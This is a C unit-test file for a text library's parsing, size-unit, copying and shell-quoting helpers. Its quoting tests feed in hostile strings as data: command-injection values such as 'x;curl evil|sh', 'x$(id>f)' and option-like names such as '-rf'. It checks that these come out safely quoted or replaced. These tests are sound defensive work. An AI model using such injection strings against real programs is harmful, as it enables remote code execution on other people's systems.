/* SPDX-License-Identifier: GPL-2.0-or-later */
#include <errno.h>
#include <string.h>

#include "lib/text.h"
#include "tests/unit/check.h"

static void numbers_are_whole(void)
{
	uint64_t value;

	CHECK_INT(text_u64("0x1f", 0, &value), 0);
	CHECK_INT(value, 31);
	CHECK_INT(text_u64("12x", 10, &value), -EINVAL);
	CHECK_INT(text_u64("+1", 10, &value), -EINVAL);
	CHECK_INT(text_u64(" 1", 10, &value), -EINVAL);
	CHECK_INT(text_u64("", 10, &value), -EINVAL);
	CHECK_INT(text_u64("18446744073709551615", 10, &value), 0);
	CHECK(value == UINT64_MAX);
	CHECK_INT(text_u64("18446744073709551616", 10, &value), -EINVAL);
}

static void sizes_have_units(void)
{
	static const char *const bad[] = { "", "K", "1KB", "1 K", "-1", "+1",
					   "1.5M", "0x", "10a", "16777216T",
					   "18446744073709551616", "1X" };
	uint64_t bytes;

	CHECK_INT(text_size("0", &bytes), 0);
	CHECK_INT(bytes, 0);
	CHECK_INT(text_size("65537", &bytes), 0);
	CHECK_INT(bytes, 65537);
	CHECK_INT(text_size("64K", &bytes), 0);
	CHECK_INT(bytes, 65536);
	CHECK_INT(text_size("3m", &bytes), 0);
	CHECK_INT(bytes, 3 << 20);
	CHECK_INT(text_size("2G", &bytes), 0);
	CHECK(bytes == 2ull << 30);
	CHECK_INT(text_size("16777215T", &bytes), 0);
	CHECK(bytes == 16777215ull << 40);
	CHECK_INT(text_size("0x10", &bytes), 0);
	CHECK_INT(bytes, 16);
	CHECK_INT(text_size("0XffK", &bytes), 0);
	CHECK_INT(bytes, 255 << 10);
	CHECK_INT(text_size("010", &bytes), 0);
	CHECK_INT(bytes, 10);
	for (size_t i = 0; i < ARRAY_SIZE(bad); i++)
		CHECK_INT(text_size(bad[i], &bytes), -EINVAL);
}

static void formatting_does_not_cut(void)
{
	char buf[4];

	CHECK_INT(text_format(buf, sizeof(buf), "%d", 123), 0);
	CHECK_INT(text_format(buf, sizeof(buf), "%d", 1234), -ENAMETOOLONG);
}

static void copying_cuts_and_ends(void)
{
	char buf[4];

	text_copy(buf, sizeof(buf), "abcdef");
	CHECK_STR(buf, "abc");
	text_copy(buf, sizeof(buf), "");
	CHECK_STR(buf, "");
}

static void names_are_one_component(void)
{
	CHECK(text_is_name("mlx5_core"));
	CHECK(text_is_name("0000:3b:00.2"));
	CHECK(!text_is_name(".."));
	CHECK(!text_is_name(""));
	CHECK(!text_is_name("a/b"));
	CHECK(!text_is_name("a b"));
}

static void prefixes_leave_the_rest(void)
{
	CHECK_STR(text_starts("--name=x", "--name="), "x");
	CHECK(!text_starts("--nam", "--name="));
}

static void operands_are_as_a_shell_takes_them(void)
{
	static const struct { const char *path, *operand; } rows[] = {
		{ "vf0.mig", "vf0.mig" },
		{ "/var/lib/vm/vf-0_1.mig.zst", "/var/lib/vm/vf-0_1.mig.zst" },
		{ "two words", "'two words'" },
		{ "it's", "'it'\\''s'" },
		{ "$HOME;x", "'$HOME;x'" },
		{ "-", "./-" },
		{ "-rf", "./-rf" },
		{ "-a b", "'./-a b'" },
		{ "", "''" },
		{ "~", "'~'" },
		{ "Gr\xc3\xbc\xc3\x9f" "e", "'Gr\xc3\xbc\xc3\x9f" "e'" },
		{ "=ls", "'=ls'" },
		{ "back\\slash", "FILE" },
		{ "csi\xc2\x9b", "FILE" },
		{ "right to left \xe2\x80\xae", "FILE" },
		{ "not UTF-8 \xff", "FILE" },
		{ "a\nb", "FILE" },
	};
	char buf[OPERAND_SIZE], path[2 * OPERAND_SIZE];

	for (size_t i = 0; i < ARRAY_SIZE(rows); i++)
		CHECK_STR(text_operand(buf, rows[i].path), rows[i].operand);
	for (size_t len = OPERAND_SIZE - 8; len < sizeof(path); len++) {
		memset(path, 'x', len);
		path[len] = '\0';
		CHECK_STR(text_operand(buf, path), len < OPERAND_SIZE ? path : "FILE");
		path[0] = ' ';
		CHECK(strlen(text_operand(buf, path)) == (len + 2 < OPERAND_SIZE ? len + 2 : 4));
		memset(path, '\'', len);
		CHECK_STR(text_operand(buf, path), "FILE");
	}
}

static void words_are_as_a_shell_takes_them(void)
{
	char buf[OPERAND_SIZE], name[OPERAND_SIZE + 1];

	CHECK_STR(text_shell_word(buf, "eth0", "NAME"), "eth0");
	CHECK_STR(text_shell_word(buf, "x$(id>f)", "NAME"), "'x$(id>f)'");
	CHECK_STR(text_shell_word(buf, "x;curl evil|sh", "NAME"), "'x;curl evil|sh'");
	CHECK_STR(text_shell_word(buf, "it's", "NAME"), "'it'\\''s'");
	CHECK_STR(text_shell_word(buf, "-h", "NAME"), "NAME");
	CHECK_STR(text_shell_word(buf, "", "NAME"), "NAME");
	CHECK_STR(text_shell_word(buf, "a\nb", "NAME"), "NAME");
	CHECK_STR(text_shell_word(buf, "\\';id;\\'", "NAME"), "NAME");
	memset(name, 'x', OPERAND_SIZE);
	name[OPERAND_SIZE] = '\0';
	CHECK_STR(text_shell_word(buf, name, "NAME"), "NAME");
}

int main(void)
{
	CASE(numbers_are_whole);
	CASE(sizes_have_units);
	CASE(formatting_does_not_cut);
	CASE(copying_cuts_and_ends);
	CASE(names_are_one_component);
	CASE(prefixes_leave_the_rest);
	CASE(operands_are_as_a_shell_takes_them);
	CASE(words_are_as_a_shell_takes_them);
	return CHECK_DONE();
}
